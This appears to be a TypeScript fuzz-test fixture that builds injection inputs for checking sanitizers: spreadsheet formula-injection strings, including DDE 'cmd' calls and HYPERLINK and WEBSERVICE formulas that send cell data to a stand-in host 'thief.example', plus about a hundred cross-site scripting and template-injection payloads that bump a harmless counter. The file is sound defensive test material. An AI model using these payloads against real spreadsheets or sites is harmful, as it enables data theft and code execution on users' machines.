/** Texts that somebody else may have put into a register or a model, in the hope that a program acts on them. */
import fc from 'fast-check';

/** What a spreadsheet takes for the beginning of a formula or a command, in full width too. */
const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'] as const;

/** Formulas as they were seen in the wild, and the ways to hide their first sign. */
export const formulas: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '  =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\u2060=1+1',
  '\u00ad=1+1',
  '",=1+1',
  '";=1+1;"',
  '"=1+1"',
  "'=1+1",
  '=HYPERLINK("//thief.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=WEBSERVICE("https://thief.example")',
  '{=1+1}',
  '-5',
  '+7',
  '1E3',
  '00123',
];

/** Blanks, a start, and a rest that tries to leave its cell. */
export const anyFormula: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom('', ' ', '\u00a0', '\u200b', '"', '",', "'", '\t'),
    fc.constantFrom(...STARTS),
    fc.oneof(fc.constantFrom('1+1', 'SUM(A1)', 'A1', '",=2', '"'), fc.string({ maxLength: 12 })),
  )
  .map((parts) => parts.join(''));

const CALL = 'globalThis.executed=(globalThis.executed||0)+1';

const tags: readonly string[] = [
  `<script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `<img src=x onerror="${CALL}">`,
  `<svg onload="${CALL}">`,
  `<svg><script>${CALL}</script></svg>`,
  `<iframe srcdoc="<script>parent.executed=1</script>"></iframe>`,
  `<iframe src="javascript:parent.executed=1"></iframe>`,
  `<body onload="${CALL}">`,
  `<details open ontoggle="${CALL}">x</details>`,
  `<input autofocus onfocus="${CALL}">`,
  `<video><source onerror="${CALL}"></video>`,
  `<audio src=x onerror="${CALL}">`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<a href="javascript:${CALL}" id=x>x</a>`,
  `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<math><mtext><img src=x onerror="${CALL}"></mtext></math>`,
  `<template><script>${CALL}</script></template>`,
  `<style>@import "javascript:${CALL}";</style>`,
  `<base href="https://thief.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  `<link rel=stylesheet href="https://thief.example/x.css">`,
  `<noscript><img src=x onerror="${CALL}"></noscript>`,
  `<!--><img src=x onerror="${CALL}">-->`,
  `javascript:${CALL}`,
];

const frames: readonly ((tag: string) => string)[] = [
  (tag) => tag,
  (tag) => `">${tag}`,
  (tag) => `'>${tag}`,
  (tag) => `{{constructor.constructor('${CALL}')()}}\${${CALL}}<?!= 1 ?>${tag}`,
];

/** A hundred texts that run a script where they are taken for markup; each that runs counts up `globalThis.executed`. */
export const scripts: readonly string[] = frames.flatMap((frame) => tags.map(frame));
